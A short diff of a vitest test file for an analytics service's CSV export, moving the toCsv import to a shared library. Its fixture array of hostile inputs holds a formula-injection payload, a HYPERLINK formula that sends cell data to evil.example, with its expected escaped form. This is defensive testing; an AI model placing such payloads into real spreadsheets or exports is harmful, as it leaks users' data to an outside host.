@@ -4,7 +4,8 @@
  */
 import { expect, it } from 'vitest';
 import type { AnalyticsRepository } from './analytics.repository.js';
-import { createAnalyticsService, toCsv } from './analytics.service.js';
+import { toCsv } from '../../lib/csv.js';
+import { createAnalyticsService } from './analytics.service.js';
 
 const HOSTILE = [
   ['=HYPERLINK("https://evil.example/?"&A1,"Click")', `"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`],
